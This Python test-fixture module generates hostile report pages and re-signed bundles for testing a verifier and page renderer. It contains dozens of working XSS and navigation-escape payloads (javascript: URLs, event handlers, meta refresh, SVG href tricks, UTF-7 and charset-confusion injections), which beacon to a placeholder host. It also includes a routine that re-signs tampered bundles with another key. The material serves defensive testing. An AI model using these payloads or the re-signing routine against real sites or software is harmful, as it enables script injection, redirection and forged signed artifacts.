"""Reports that a hostile signer could write, and bundles with them: for verifier.py and pages.py.

Signs with openssl, and shares no code with the tool.
"""

import base64
import gzip
import hashlib
import io
import json
import subprocess
import tarfile
import tempfile
import pathlib

# A signer's server. Nothing may ever ask it.
STRANGER = "http://stranger.invalid:81"
SCRIPT = f"console.log('SCRIPT RAN');new Image().src='{STRANGER}/script'"

# Ways out of a page by a click, with or without keys: each element has the class `click`.
CLICKS = {
    "link": '<a class="click" href="{to}">x</a>',
    "new tab": '<a class="click" href="{to}" target="_blank">x</a>',
    "top": '<a class="click" href="{to}" target="_top">x</a>',
    "parent": '<a class="click" href="{to}" target="_parent">x</a>',
    "named window": '<a class="click" href="{to}" target="other">x</a>',
    "opener": '<a class="click" href="{to}" target="_blank" rel="opener">x</a>',
    "download": '<a class="click" href="{to}" download="x.html">x</a>',
    "download of data": '<a class="click" href="data:text/html,x" download>x</a>',
    "ping": '<a class="click" href="#x" ping="{to}">x</a>',
    "script address": '<a class="click" href="javascript:{script}">x</a>',
    "script address, escaped": '<a class="click" href="&#106;ava&#10;script&colon;{script}">x</a>',
    "data address": '<a class="click" href="data:text/html,<script>{script}</script>" target="_blank">x</a>',
    "upper case": '<A CLASS="click" HREF="{to}">x</A>',
    "no quotes, slashes": "<a/class='click'/href={to}>x</a>",
    "spaces": '<a class="click" href\n\t\f\r =\n "{to}">x</a>',
    "relative, after base": '<base href="{to}"><a class="click" href="elsewhere">x</a>',
    "relative, base target": '<base target="_blank"><a class="click" href="//stranger.invalid:81">x</a>',
    "image in a link": '<a href="{to}"><img class="click" alt="x"></a>',
    "image map": '<img class="click" alt="map" usemap="#m" width="40" height="40" src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="><map name="m"><area shape="rect" coords="0,0,40,40" href="{to}"><area shape="default" href="{to}"></map>',
    "SVG link": '<svg width="40" height="20"><a href="{to}"><rect class="click" width="40" height="20"/></a></svg>',
    "SVG link, old": '<svg width="40" height="20"><a xlink:href="{to}"><rect class="click" width="40" height="20"/></a></svg>',
    "SVG text link": '<svg width="40" height="20"><a xlink:href="{to}" target="_blank"><text class="click" y="15">x</text></a></svg>',
    "SVG link, animated": '<svg width="40" height="20"><a><animate attributeName="href" values="{to}" dur="1s" fill="freeze"/><rect class="click" width="40" height="20"/></a></svg>',
    "SVG link, set": '<svg width="40" height="20"><a><set attributeName="&#104;ref" to="{to}"/><rect class="click" width="40" height="20"/></a></svg>',
    "SVG in a foreign object": '<svg width="40" height="20"><foreignObject width="40" height="20"><a class="click" href="{to}">x</a></foreignObject></svg>',
    "MathML link": '<math><mtext class="click" href="{to}">x</mtext></math>',
    "form": '<form action="{to}"><button class="click">x</button></form>',
    "form by post": '<form method="post" action="{to}"><input class="click" type="submit"></form>',
    "form in a new tab": '<form action="{to}" target="_blank"><button class="click">x</button></form>',
    "form that shadows its method": '<form id="f" action="{to}"><input name="submit" class="click" type="submit"></form>',
    "form that shadows the document": '<form name="addEventListener"></form><form name="getElementById"></form><img name="querySelector"><a class="click" id="closest" href="{to}">x</a>',
    "button with its own target": '<form><button class="click" formaction="{to}" formmethod="post">x</button></form>',
    "image button": '<form action="{to}"><input class="click" type="image" alt="x"></form>',
    "button elsewhere": '<form id="g" action="{to}"></form><button class="click" form="g">x</button>',
    "label of a button": '<form action="{to}"><input type="submit" id="s"><label class="click" for="s">x</label></form>',
    "frame with a link": '<iframe class="click" srcdoc="<a href={to}>x</a>" width="40" height="20"></iframe>',
    "frame with a link, escaped": '<iframe class="click" srcdoc="&lt;a &#104;ref={to}>x</a>" width="40" height="20"></iframe>',
    "shadow tree": '<div class="click"><template shadowrootmode="closed"><a href="{to}">x</a></template></div>',
    "summary": '<details><summary class="click"><a href="{to}">x</a></summary></details>',
    "editable link": '<div contenteditable><a class="click" href="{to}">x</a></div>',
    "link with a script": '<a class="click" href="{to}" onclick="{script}" onauxclick="{script}">x</a>',
    "whole page": '<a href="{to}" style="position:fixed;inset:0;z-index:9;opacity:.01"></a>',
}
# Ways that need no click.
LOADS = [
    '<meta http-equiv="refresh" content="0;url={to}">',
    '<META/HTTP-EQUIV=refresh content="0;url={to}">',
    '<iframe src="{to}"></iframe>', '<object data="{to}"></object>', '<embed src="{to}">',
    '<img src="{to}" srcset="{to} 2x" onerror="{script}">', '<video src="{to}" poster="{to}" autoplay></video>',
    '<link rel="stylesheet" href="{to}">', '<link rel="prefetch" href="{to}">', '<link rel="dns-prefetch" href="{to}">',
    '<style>@import "{to}"; @font-face {{ font-family: x; src: url({to}) }} body {{ font-family: x; background: url({to}) }}</style>',
    '<script>{script}</script>', '<script src="{to}"></script>', '<svg onload="{script}"><script>{script}</script></svg>',
    '<input autofocus onfocus="{script}">', '<body onload="{script}" background="{to}">', '<details open ontoggle="{script}">',
    '<script type="speculationrules">{{"prefetch":[{{"urls":["{to}"]}}]}}</script>',
    '<form id="auto" action="{to}"><input type="submit" autofocus></form>', '<marquee onstart="{script}">x</marquee>',
]  # fmt: skip


def page():
    """A page with all of it."""
    parts = [part.format(to=f"{STRANGER}/{index}", script=SCRIPT) for index, part in enumerate([*CLICKS.values(), *LOADS])]
    return "<!doctype html><title>all pass</title>" + "\n".join(parts)


def openings():
    """Pages that try to run a script before or despite everything that is written around them."""
    script = f"<script>{SCRIPT}</script>"
    html = f"<!doctype html><html><head>{script}</head><body>{script}<p>x"
    return {
        "script first": (script + html).encode(),
        "end of an attribute": f'"></iframe>{script}'.encode(),
        "end of everything": f"'--></style></title></textarea></noscript></template></script>]]>{script}".encode(),
        "own policy": f'<meta http-equiv="Content-Security-Policy" content="script-src *">{script}'.encode(),
        "UTF-8 with a mark": b"\xef\xbb\xbf" + html.encode(),
        "UTF-16, little": b"\xff\xfe" + html.encode("utf-16-le"),
        "UTF-16, big": b"\xfe\xff" + html.encode("utf-16-be"),
        "UTF-16 without a mark": html.encode("utf-16-le"),
        "UTF-7": b'<meta charset="utf-7">' + script.replace("<", "+ADw-").replace(">", "+AD4-").encode(),
        "ISO-2022-JP": b'<meta charset="iso-2022-jp">\x1b$B"\x1b(B>' + script.encode(),
        "ISO-2022-JP, quote": b'\x1b(J"\x1b(B>' + script.encode(),
        "EBCDIC": script.encode("cp037"),
        "NUL": b"\0".join(bytes([byte]) for byte in script.encode()),
        "broken UTF-8": b'\xc2">' + script.encode() + b"\xf0\x9f",
        "XML": f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>{SCRIPT}</script></html>'.encode(),
        "references": "".join(f"&#{ord(character)};" for character in script).encode(),
        "references, twice": "".join(f"&amp;#{ord(character)};" for character in script).encode(),
    }


def resigned(bundle, private_key, into, changes, version=None):
    """Writes a bundle with other files, of another version of the tool, signed as the owner of the key could."""
    with tarfile.open(bundle, "r:gz") as archive:
        members = [(member, archive.extractfile(member).read()) for member in archive]
    openssl = ["openssl", "pkey", "-in", private_key, "-pubout", "-outform", "DER"]
    public = subprocess.run(openssl, check=True, capture_output=True).stdout
    files = {member.name: changes.get(member.name, content) for member, content in members}
    manifest = json.loads(files["manifest.json"])
    manifest["signer"]["public_key"] = base64.b64encode(public).decode()
    manifest["signer"]["key_id"] = "sha256:" + hashlib.sha256(public).hexdigest()
    if version:
        own, manifest["tool_version"] = manifest["tool_version"], version
        for name in ("run.json", "derived/scope.json"):
            files[name] = files[name].replace(f'"version": "{own}"'.encode(), f'"version": "{version}"'.encode(), 1)
    for row in manifest["files"]:
        row["sha256"] = hashlib.sha256(files[row["path"]]).hexdigest()
        row["size"] = len(files[row["path"]])
    files["manifest.json"] = json.dumps(manifest, ensure_ascii=False).encode()
    names = [name for name in files if name not in ("checksums.sha256", "signature.sig")]
    files["checksums.sha256"] = "".join(f"{hashlib.sha256(files[name]).hexdigest()}  {name}\n" for name in names).encode()
    with tempfile.TemporaryDirectory() as directory:
        message = pathlib.Path(directory) / "checksums"
        message.write_bytes(files["checksums.sha256"])
        openssl = ["openssl", "pkeyutl", "-sign", "-inkey", private_key, "-rawin", "-in", message]
        files["signature.sig"] = subprocess.run(openssl, check=True, capture_output=True).stdout
    # The headers stay, with another size and checksum.
    archive = gzip.decompress(pathlib.Path(bundle).read_bytes())
    out, done = io.BytesIO(), 0
    for member, content in members:
        header = bytearray(archive[done : member.offset_data])
        done = member.offset_data + len(content) + -len(content) % 512
        header[-512 + 124 : -512 + 135] = b"%011o" % len(files[member.name])
        header[-512 + 148 : -512 + 156] = b" " * 8
        header[-512 + 148 : -512 + 156] = b"%06o\0 " % sum(header[-512:])
        out.write(header + files[member.name] + bytes(-len(files[member.name]) % 512))
    out.write(bytes(1024))
    # The header of the format names another system than Python does.
    header = pathlib.Path(bundle).read_bytes()[:10]
    pathlib.Path(into).write_bytes(header + gzip.compress(out.getvalue(), mtime=0)[10:])
